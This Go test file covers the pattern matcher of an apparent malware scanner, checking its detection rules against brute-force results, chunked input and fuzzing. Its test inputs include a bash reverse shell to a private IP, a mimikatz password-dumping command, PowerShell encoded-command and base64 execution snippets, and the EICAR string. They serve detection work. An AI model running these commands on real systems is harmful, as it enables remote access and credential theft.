package patterns

import (
	"bytes"
	"cmp"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"athena/internal/core"
)

// testEICAR builds the EICAR test file from other pieces than rules.go, so
// that neither file holds it whole.
func testEICAR() string {
	return "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*"
}

// testRules exercise every kind of token over a small alphabet, so that
// random data matches them often.
var testRules = []Rule{
	{Name: "lit", Pattern: "ABA", Severity: core.Low},
	{Name: "wild", Pattern: "41 ?? 43", Hex: true, Severity: core.Medium},
	{Name: "nibble", Pattern: "4? 42 ?1", Hex: true},
	{Name: "fwd", Pattern: "41 41 [2-5] ?? 42", Hex: true, Severity: core.High},
	{Name: "back", Pattern: "41 [0-3] 42 [1-2] 43 44", Hex: true},
	{Name: "both", Pattern: "41 [0-2] 42 43 [1-2] ?4", Hex: true},
	{Name: "mid", Pattern: "?? 42 42 ?? [1-3] 4? [0] 44", Hex: true},
	{Name: "low", Pattern: "01 ?? 0?", Hex: true, Severity: core.Critical},
}

func mustCompile(t testing.TB, rules []Rule) *Set {
	t.Helper()
	set, err := Compile(rules)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// split is one way of cutting a file into chunks.
type split struct {
	name   string
	chunks [][]byte
}

// splits cuts data whole, into single bytes and at random with each seed.
func splits(data []byte, seeds ...uint64) []split {
	bytewise := make([][]byte, len(data))
	for i := range data {
		bytewise[i] = data[i : i+1]
	}
	out := []split{{"whole", [][]byte{data}}, {"bytes", bytewise}}
	for _, seed := range seeds {
		out = append(out, split{fmt.Sprintf("random%d", seed), randomChunks(data, seed)})
	}
	return out
}

// randomChunks cuts data into chunks of random sizes: tiny, around pattern
// lengths, or larger than an internal block.
func randomChunks(data []byte, seed uint64) [][]byte {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	var chunks [][]byte
	for len(data) > 0 {
		var n int
		switch r.IntN(3) {
		case 0:
			n = 1 + r.IntN(8)
		case 1:
			n = 1 + r.IntN(300)
		default:
			n = 1 + r.IntN(3*blockSize)
		}
		n = min(n, len(data))
		chunks = append(chunks, data[:n])
		data = data[n:]
	}
	return chunks
}

// run analyses one file, fed in chunks, and returns the findings.
func run(t testing.TB, set *Set, chunks [][]byte) []core.Finding {
	t.Helper()
	var got []core.Finding
	a := NewAnalyzer(set, func(f core.Finding) { got = append(got, f) })
	if err := a.Begin(core.FileMeta{Size: -1}); err != nil {
		t.Fatalf("Begin: %v", err)
	}
	for _, c := range chunks {
		if err := a.Feed(c); err != nil {
			t.Fatalf("Feed: %v", err)
		}
	}
	if err := a.Finish(); err != nil {
		t.Fatalf("Finish: %v", err)
	}
	return got
}

// short spells a finding as rule@offset+length, or rule:summary(n) for a
// rule's summary.
func short(f core.Finding) string {
	if f.Length == 0 {
		return fmt.Sprintf("%s:summary(%v)", f.Rule, f.Detail["matches"])
	}
	return fmt.Sprintf("%s@%d+%d", f.Rule, f.Offset, f.Length)
}

// full spells every field of a finding.
func full(f core.Finding) string {
	return fmt.Sprintf("%s %s %s %d+%d %v", f.Kind, f.Rule, f.Severity, f.Offset, f.Length, f.Detail)
}

func spell(fs []core.Finding, how func(core.Finding) string) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = how(f)
	}
	return out
}

// diff describes the first difference of two lists of findings.
func diff(got, want []string) string {
	for i := range min(len(got), len(want)) {
		if got[i] != want[i] {
			return fmt.Sprintf("finding %d = %s, want %s", i, got[i], want[i])
		}
	}
	return fmt.Sprintf("%d findings, want %d (got %q, want %q)", len(got), len(want), got, want)
}

// oracle finds the matches of set in data by brute force, trying every
// rule at every offset, and returns the findings an Analyzer must report.
func oracle(set *Set, data []byte) []core.Finding {
	var ms []match
	for r := range set.rules {
		for s := range data {
			if e := shortestAt(&set.pats[r], data, 0, s); e >= 0 {
				ms = append(ms, match{end: int64(e), start: int64(s), rule: r})
			}
		}
	}
	slices.SortFunc(ms, func(x, y match) int {
		return cmp.Or(cmp.Compare(x.end, y.end), cmp.Compare(x.rule, y.rule), cmp.Compare(x.start, y.start))
	})
	var out []core.Finding
	total := make([]int, len(set.rules))
	for _, m := range ms {
		if total[m.rule]++; total[m.rule] > MaxFindingsPerRule {
			continue
		}
		r := set.rules[m.rule]
		out = append(out, core.Finding{Kind: Kind, Rule: r.Name, Severity: r.Severity, Offset: m.start,
			Length: m.end - m.start, Detail: map[string]any{"description": r.Description}})
	}
	for i, n := range total {
		if n > MaxFindingsPerRule {
			r := set.rules[i]
			out = append(out, core.Finding{Kind: Kind, Rule: r.Name, Severity: r.Severity, Detail: map[string]any{
				"description": r.Description, "matches": n, "reported": MaxFindingsPerRule, "truncated": true}})
		}
	}
	return out
}

// shortestAt returns the end of the shortest match of p's segments from k
// on with segment k at offset at, or -1.
func shortestAt(p *pattern, data []byte, k, at int) int {
	seg := p.segs[k]
	if at+len(seg.val) > len(data) {
		return -1
	}
	for i, v := range seg.val {
		if data[at+i]&seg.mask[i] != v {
			return -1
		}
	}
	end := at + len(seg.val)
	if k == len(p.segs)-1 {
		return end
	}
	best := -1
	for d := p.gaps[k].min; d <= p.gaps[k].max; d++ {
		if e := shortestAt(p, data, k+1, end+d); e >= 0 && (best < 0 || e < best) {
			best = e
		}
	}
	return best
}

// checkAllSplits runs data through set in every split and compares the
// findings with want.
func checkAllSplits(t *testing.T, set *Set, data []byte, want []string, how func(core.Finding) string) {
	t.Helper()
	for _, sp := range splits(data, 1, 2, 3) {
		if got := spell(run(t, set, sp.chunks), how); !slices.Equal(got, want) {
			t.Errorf("%s: %s", sp.name, diff(got, want))
		}
	}
}

func TestMatch(t *testing.T) {
	tests := []struct {
		name  string
		rules []Rule
		data  string
		want  []string
	}{
		{"literal, overlapping", []Rule{{Name: "aa", Pattern: "aa"}}, "xaaaax",
			[]string{"aa@1+2", "aa@2+2", "aa@3+2"}},
		{"order by end, then rule", []Rule{{Name: "bc", Pattern: "bc"}, {Name: "abc", Pattern: "abc"}, {Name: "ab", Pattern: "ab"}},
			"abcab", []string{"ab@0+2", "bc@1+2", "abc@0+3", "ab@3+2"}},
		{"same anchor, two rules", []Rule{{Name: "r1", Pattern: "41 42 ?? 44", Hex: true}, {Name: "r2", Pattern: "?? 41 42", Hex: true}},
			"xABCD", []string{"r2@0+3", "r1@1+4"}},
		{"full wildcard", []Rule{{Name: "w", Pattern: "41 ?? 43", Hex: true}}, "AXC AC ABBC A\x00C",
			[]string{"w@0+3", "w@12+3"}},
		{"high nibble wildcard", []Rule{{Name: "n", Pattern: "?1 5A", Hex: true}}, "\x01Z\x11Z\xF1Z\x12Z\x10Z",
			[]string{"n@0+2", "n@2+2", "n@4+2"}},
		{"low nibble wildcard", []Rule{{Name: "n", Pattern: "5A 4?", Hex: true}}, "Z@ZOZ_Z\x3f",
			[]string{"n@0+2", "n@2+2"}},
		{"shortest jump", []Rule{{Name: "j", Pattern: "41 [1-3] 42", Hex: true}}, "AxBxB",
			[]string{"j@0+3"}},
		{"jump too short or too long", []Rule{{Name: "j", Pattern: "41 [1-3] 42", Hex: true}}, "AB AxxxxB",
			nil},
		{"jump before anchor, one start", []Rule{{Name: "j", Pattern: "41 [0-2] 42 42", Hex: true}}, "ABBBB",
			[]string{"j@0+3"}},
		{"jump before anchor, many starts", []Rule{{Name: "j", Pattern: "41 [0-2] 42 42", Hex: true}}, "AAABB",
			[]string{"j@0+5", "j@1+4", "j@2+3"}},
		{"anchor needs bytes before the file", []Rule{{Name: "m", Pattern: "?? ?? 41 42", Hex: true}}, "ABxxAB",
			[]string{"m@2+4"}},
		{"pattern runs past the end", []Rule{{Name: "e", Pattern: "41 42 ?? ??", Hex: true}}, "xxABc",
			nil},
		{"near misses", []Rule{{Name: "lit", Pattern: "needle"}, {Name: "hex", Pattern: "6E [0-1] 65 65 64", Hex: true}},
			"nedle neEdle eedle n--eed Needle needle", []string{"hex@33+4", "lit@33+6"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			set := mustCompile(t, tt.rules)
			if want := spell(oracle(set, []byte(tt.data)), short); !slices.Equal(want, tt.want) {
				t.Fatalf("oracle: %s", diff(want, tt.want))
			}
			checkAllSplits(t, set, []byte(tt.data), tt.want, short)
		})
	}
}

func TestDefaultRules(t *testing.T) {
	dosHeader := "MZ\x90\x00" + strings.Repeat("\x00", 74)
	msg := "This program cannot be run in DOS mode.\r\r\n$"
	tests := []struct {
		name string
		data string
		want []string
	}{
		{"eicar", testEICAR(), []string{"eicar_test_file@0+68"}},
		{"eicar inside", "abc" + testEICAR() + "def", []string{"eicar_test_file@3+68"}},
		{"eicar near miss", strings.Replace(testEICAR(), "TEST", "TEXT", 1), nil},
		{"eicar cut short", testEICAR()[:67], nil},
		{"encoded command", "powershell.exe -NoP -EncodedCommand SQBFAFgA", []string{"powershell_encoded_command@20+15"}},
		{"encoded command, other case", "powershell.exe -encodedcommand SQBFAFgA", nil},
		{"iex frombase64", "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBF')))",
			[]string{"powershell_iex_frombase64@0+64"}},
		{"iex too far from frombase64", "IEX (" + strings.Repeat(" ", 100) + "FromBase64String(", nil},
		{"wscript", `Set sh = CreateObject("WScript.Shell")`, []string{"wscript_shell@23+13"}},
		{"wscript near miss", `CreateObject("WScript.Shel")`, nil},
		{"mimikatz", "mimikatz # sekurlsa::logonpasswords", []string{"mimikatz_logonpasswords@11+24"}},
		{"mimikatz near miss", "sekurlsa::logonpassword sekurlsa:logonpasswords", nil},
		{"bash reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", []string{"bash_reverse_shell@0+20"}},
		{"bash near miss", "bash -i > /dev/tcp/10.0.0.1/4444", nil},
		{"pe", dosHeader + msg, []string{"pe_dos_stub@0+116"}},
		{"pe, message too far", dosHeader + strings.Repeat("\x00", 120) + msg, nil},
		{"pe, bad header", "MZ\x90\x01" + strings.Repeat("\x00", 74) + msg, nil},
		{"elf", "\x7fELF\x02\x01\x01\x00\x00", []string{"elf_header@0+7"}},
		{"elf, bad class", "\x7fELF\x12\x01\x01\x00\x00", nil},
		{"elf, bad version", "\x7fELF\x02\x01\x02\x00\x00", nil},
	}
	set := mustCompile(t, DefaultRules())
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkAllSplits(t, set, []byte(tt.data), tt.want, short)
		})
	}
}

func TestEICAR(t *testing.T) {
	e := testEICAR()
	if len(e) != 68 || e != eicar {
		t.Fatalf("EICAR pieces disagree: test %d bytes, rules.go %d bytes", len(e), len(eicar))
	}
	var got []core.Finding
	a := New(func(f core.Finding) { got = append(got, f) })
	_ = a.Begin(core.FileMeta{Name: "eicar.com", Size: 68})
	_ = a.Feed([]byte(e))
	_ = a.Finish()
	want := []string{"pattern eicar_test_file high 0+68 map[description:EICAR anti-virus test file]"}
	if got := spell(got, full); !slices.Equal(got, want) {
		t.Errorf("New: %s", diff(got, want))
	}
}

// TestNoEICARInSource checks that no file of the package holds the EICAR
// string whole.
func TestNoEICARInSource(t *testing.T) {
	e := []byte(testEICAR())
	err := filepath.WalkDir(".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(b, e) {
			t.Errorf("%s holds the EICAR string", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestCap(t *testing.T) {
	set := mustCompile(t, []Rule{
		{Name: "ab", Pattern: "AB", Severity: core.Medium, Description: "ab"},
		{Name: "cd", Pattern: "CD"},
	})
	data := strings.Repeat("AB", 250) + "CD"
	var want []string
	for i := range MaxFindingsPerRule {
		want = append(want, fmt.Sprintf("ab@%d+2", 2*i))
	}
	want = append(want, "cd@500+2", "ab:summary(250)")
	checkAllSplits(t, set, []byte(data), want, short)

	got := run(t, set, [][]byte{[]byte(data)})
	wantSummary := "pattern ab medium 0+0 map[description:ab matches:250 reported:100 truncated:true]"
	if s := full(got[len(got)-1]); s != wantSummary {
		t.Errorf("summary = %s, want %s", s, wantSummary)
	}
}

// TestOracle compares the analyzer with brute force on random data that
// matches the test rules often, in every split; with single bytes, each
// finding must come during the Feed of its last byte.
func TestOracle(t *testing.T) {
	set := mustCompile(t, testRules)
	for _, seed := range []uint64{1, 2, 3} {
		t.Run(fmt.Sprint(seed), func(t *testing.T) {
			r := rand.New(rand.NewPCG(seed, 0))
			alphabet := []byte("ABCDAB\x01\x02\x44")
			data := make([]byte, 3*blockSize+777)
			for i := range data {
				data[i] = alphabet[r.IntN(len(alphabet))]
			}
			want := spell(oracle(set, data), full)
			if len(want) < 3*len(testRules) {
				t.Fatalf("oracle found only %d findings; make the data match more", len(want))
			}
			checkAllSplits(t, set, data, want, full)

			fed := 0
			a := NewAnalyzer(set, func(f core.Finding) {
				if f.Length > 0 && f.Offset+f.Length != int64(fed) {
					t.Errorf("%s reported while feeding byte %d", short(f), fed-1)
				}
			})
			_ = a.Begin(core.FileMeta{Size: -1})
			for i := range data {
				fed++
				_ = a.Feed(data[i : i+1])
			}
		})
	}
}

// FuzzFeed checks on random bytes that every chunking gives the same
// findings as brute force. The bytes are masked to a small alphabet that
// the test rules match often.
func FuzzFeed(f *testing.F) {
	f.Add([]byte("ABA AxC AAxxxB ABxCD xBBxxAD \x01\x00\x02"), uint64(1))
	f.Add([]byte(strings.Repeat("ABCD", 64)), uint64(2))
	f.Add([]byte{}, uint64(3))
	set := mustCompile(f, testRules)
	f.Fuzz(func(t *testing.T, data []byte, seed uint64) {
		if len(data) > 1024 {
			return
		}
		data = slices.Clone(data) // the fuzzing engine owns data
		for i := range data {
			data[i] &= 0x47
		}
		want := spell(oracle(set, data), full)
		for _, sp := range splits(data, seed) {
			if got := spell(run(t, set, sp.chunks), full); !slices.Equal(got, want) {
				t.Fatalf("%s: %s", sp.name, diff(got, want))
			}
		}
	})
}

func TestBeginResets(t *testing.T) {
	var got []core.Finding
	a := New(func(f core.Finding) { got = append(got, f) })
	_ = a.Begin(core.FileMeta{Size: -1})
	_ = a.Feed([]byte("xx sekurlsa::logon"))
	_ = a.Begin(core.FileMeta{Size: -1})
	_ = a.Feed([]byte("passwords "))
	_ = a.Feed([]byte("WScript.Shell"))
	_ = a.Finish()
	want := []string{"wscript_shell@10+13"}
	if got := spell(got, short); !slices.Equal(got, want) {
		t.Errorf("after Begin: %s", diff(got, want))
	}
}

// TestMemoryBounded feeds a long file that keeps many verifications
// pending and checks that the per-file state stays bounded.
func TestMemoryBounded(t *testing.T) {
	set := mustCompile(t, slices.Concat(testRules, []Rule{{Name: "long", Pattern: "43 43 43 [200-255] 42 [200-255] 41", Hex: true}}))
	r := rand.New(rand.NewPCG(7, 7))
	chunk := make([]byte, 64<<10)
	a := NewAnalyzer(set, func(core.Finding) {})
	_ = a.Begin(core.FileMeta{Size: -1})
	winCap := cap(a.win.buf)
	for range 32 { // 2 MiB
		for i := range chunk {
			chunk[i] = "ABCD"[r.IntN(4)]
		}
		_ = a.Feed(chunk)
		if cap(a.win.buf) != winCap {
			t.Fatalf("window grew from %d to %d bytes", winCap, cap(a.win.buf))
		}
		if limit := set.maxLen * len(set.rules); len(a.pending) > limit {
			t.Fatalf("%d pending verifications, want at most %d", len(a.pending), limit)
		}
		for r, seen := range a.seen {
			if seen != nil && len(seen) > set.pats[r].maxLen {
				t.Fatalf("rule %s remembers %d starts, want at most %d", set.rules[r].Name, len(seen), set.pats[r].maxLen)
			}
		}
	}
	if len(a.pending) == 0 {
		t.Errorf("no pending verifications at the end; the test does not exercise them")
	}
}

// BenchmarkFeed measures the built-in rules on 1 MiB of pseudo-random
// bytes fed in 64 KiB chunks.
func BenchmarkFeed(b *testing.B) {
	data := make([]byte, 1<<20)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range data {
		data[i] = byte(r.Uint32())
	}
	a := New(func(core.Finding) {})
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		_ = a.Begin(core.FileMeta{Size: int64(len(data))})
		for off := 0; off < len(data); off += 64 << 10 {
			_ = a.Feed(data[off : off+64<<10])
		}
		_ = a.Finish()
	}
}
